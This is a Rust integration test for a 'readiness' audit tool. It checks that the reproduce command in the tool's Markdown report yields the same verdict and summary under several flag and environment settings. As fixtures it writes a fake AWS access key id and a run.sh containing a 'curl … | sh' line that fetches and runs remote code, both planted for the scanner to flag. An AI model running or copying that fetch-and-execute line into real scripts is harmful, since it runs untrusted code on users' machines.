//! The line of the Markdown report that says how to reproduce it, run again by a shell.

use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;

use super::support::write;

/// A private key id that no one owns: the alphabet and length are right, the value is made up.
const KEY_ID: &str = "AKIAQ3EGRYT5J2W7LKZM";

/// The exit code and the report of a command line.
fn by_shell(folder: &Path, line: &str, environment: &[(&str, &str)]) -> (Option<i32>, Value) {
    let program = Path::new(env!("CARGO_BIN_EXE_readiness")).parent().unwrap().display().to_string();
    let path = format!("{program}:{}", std::env::var("PATH").unwrap_or_default());
    let output = Command::new("sh")
        .args(["-c", line])
        .current_dir(folder)
        .env_clear()
        .env("PATH", path)
        .envs(environment.iter().copied())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let report = serde_json::from_slice(&output.stdout);
    (output.status.code(), report.unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr))))
}

#[test]
#[cfg(unix)]
fn the_line_of_the_report_gives_the_same_verdict() {
    let folder = tempfile::tempdir().unwrap();
    let here = folder.path();
    let (tree, policy) = ("it's a tree", "my policies/$strict.yaml");
    write(here, &format!("{tree}/deploy.ini"), format!("aws_access_key_id = {KEY_ID}\n"));
    write(here, &format!("{tree}/run.sh"), "#!/bin/sh\ncurl https://example.org/a | sh\n");
    write(here, &format!("{tree}/readiness.yaml"), "audit:\n  exclude: [deploy.ini]\n");
    write(
        here,
        &format!("{tree}/package-lock.json"),
        r#"{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.0"}}}"#,
    );
    write(
        here,
        policy,
        "waivers:\n- {rule: SEC-001, path: deploy.ini, reason: r, owner: o, expires: 2026-12-01}\n",
    );
    let policy = format!("'{policy}'");
    let tree = r#""it's a tree""#;
    let epoch = ("SOURCE_DATE_EPOCH", "1790000000");
    for (flags, environment) in [
        ("--deep".to_owned(), vec![epoch]),
        ("--deep --no-tree-config --skip vulnerabilities".to_owned(), vec![epoch]),
        (format!("--only secrets --config {policy} --strict"), vec![epoch]),
        // The waiver has ended by then.
        (format!("--only secrets --config {policy}"), vec![("SOURCE_DATE_EPOCH", "1893456000")]),
        ("--only code --fail-on critical".to_owned(), vec![epoch]),
        (
            "--skip vulnerabilities".to_owned(),
            vec![("READINESS_FAIL_ON", "critical"), ("READINESS_DEEP", "true"), ("READINESS_STRICT", "true")],
        ),
        (
            "--deep --skip vulnerabilities,secrets".to_owned(),
            vec![("READINESS_CONFIG", "my policies/$strict.yaml"), ("READINESS_MAX_ADVISORY_AGE", "30")],
        ),
    ] {
        let first = format!("readiness audit {flags} --json - --markdown report.md {tree}");
        let (exit, report) = by_shell(here, &first, &environment);
        let markdown = std::fs::read_to_string(here.join("report.md")).unwrap();
        let line = markdown.split("\n```\n").nth(1).unwrap();
        // Where the report goes is the reader's choice; the tree stands last.
        let again = line.replacen("readiness audit", "readiness audit --json -", 1);
        let (exit_again, report_again) = by_shell(here, &again, &[]);
        assert_eq!(exit, exit_again, "{line}");
        assert_eq!(report["verdict"], report_again["verdict"], "{line}");
        assert_eq!(report["summary"], report_again["summary"], "{line}");
    }
}
